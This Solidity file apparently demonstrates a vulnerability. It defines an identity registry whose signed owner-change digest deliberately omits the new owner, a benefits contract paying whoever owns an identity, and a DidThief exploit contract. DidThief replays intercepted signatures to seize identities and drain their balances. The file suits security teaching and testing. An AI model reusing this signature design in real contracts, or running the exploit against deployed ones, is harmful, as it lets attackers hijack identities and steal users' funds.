// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// Identities in the manner of ERC-1056: every account is one, and says who may act for it. Signed changes may be brought
/// by anybody. What is signed for a change of owner does not say who the next one is.
contract DidRegistry {
    mapping(address => address) public owners;
    mapping(address => mapping(bytes32 => mapping(address => uint256))) public delegates;
    mapping(address => uint256) public changed;
    mapping(address => uint256) public nonce;

    event DIDOwnerChanged(address indexed identity, address owner, uint256 previousChange);
    event DIDDelegateChanged(
        address indexed identity, bytes32 delegateType, address delegate, uint256 validTo, uint256 previousChange
    );

    function identityOwner(address identity) public view returns (address) {
        return owners[identity] == address(0) ? identity : owners[identity];
    }

    function validDelegate(address identity, bytes32 delegateType, address delegate) public view returns (bool) {
        return delegates[identity][keccak256(abi.encode(delegateType))][delegate] > block.timestamp;
    }

    function changeOwner(address identity, address newOwner) external {
        _changeOwner(identity, msg.sender, newOwner);
    }

    function changeOwnerSigned(address identity, uint8 v, bytes32 r, bytes32 s, address newOwner) external {
        bytes32 digest = changeDigest(identity);
        _changeOwner(identity, signer(identity, digest, v, r, s), newOwner);
    }

    function changeDigest(address identity) public view returns (bytes32) {
        return keccak256(
            abi.encodePacked(bytes1(0x19), bytes1(0), this, nonce[identityOwner(identity)], identity, "changeOwner")
        );
    }

    function addDelegate(address identity, bytes32 delegateType, address delegate, uint256 validity) external {
        require(msg.sender == identityOwner(identity), "bad_actor");
        delegates[identity][keccak256(abi.encode(delegateType))][delegate] = block.timestamp + validity;
        emit DIDDelegateChanged(identity, delegateType, delegate, block.timestamp + validity, changed[identity]);
        changed[identity] = block.number;
    }

    function revokeDelegate(address identity, bytes32 delegateType, address delegate) external {
        require(msg.sender == identityOwner(identity), "bad_actor");
        delegates[identity][keccak256(abi.encode(delegateType))][delegate] = block.timestamp;
        emit DIDDelegateChanged(identity, delegateType, delegate, block.timestamp, changed[identity]);
        changed[identity] = block.number;
    }

    function signer(address identity, bytes32 digest, uint8 v, bytes32 r, bytes32 s) private returns (address who) {
        who = ecrecover(digest, v, r, s);
        require(who == identityOwner(identity), "bad_signature");
        nonce[who]++;
    }

    function _changeOwner(address identity, address actor, address newOwner) private {
        require(actor == identityOwner(identity), "bad_actor");
        owners[identity] = newOwner;
        emit DIDOwnerChanged(identity, newOwner, changed[identity]);
        changed[identity] = block.number;
    }
}

/// Keeps benefits for identities; whoever owns an identity draws them.
contract BenefitDesk {
    DidRegistry public immutable dids;
    Token public immutable token;
    address private immutable office = msg.sender;
    mapping(address => uint256) public balanceOf;

    event Credited(address indexed identity, uint256 amount);
    event Drawn(address indexed identity, address indexed to, uint256 amount);

    constructor(DidRegistry dids_, Token token_) {
        (dids, token) = (dids_, token_);
    }

    function credit(address identity, uint256 amount) external {
        require(msg.sender == office, "not the office");
        token.transferFrom(office, address(this), amount);
        balanceOf[identity] += amount;
        emit Credited(identity, amount);
    }

    function draw(address identity, uint256 amount, address to) external {
        require(dids.identityOwner(identity) == msg.sender, "not the owner of the identity");
        balanceOf[identity] -= amount;
        token.transfer(to, amount);
        emit Drawn(identity, to, amount);
    }
}

/// Brings signatures that were meant for others with an owner of its own choice, and draws what the identities have.
contract DidThief {
    struct Catch {
        address identity;
        uint8 v;
        bytes32 r;
        bytes32 s;
    }

    function run(DidRegistry dids, BenefitDesk desk, Catch[] calldata catches, address payee) external {
        for (uint256 i = 0; i < catches.length; i++) {
            Catch calldata one = catches[i];
            dids.changeOwnerSigned(one.identity, one.v, one.r, one.s, address(this));
            desk.draw(one.identity, desk.balanceOf(one.identity), payee);
        }
    }
}
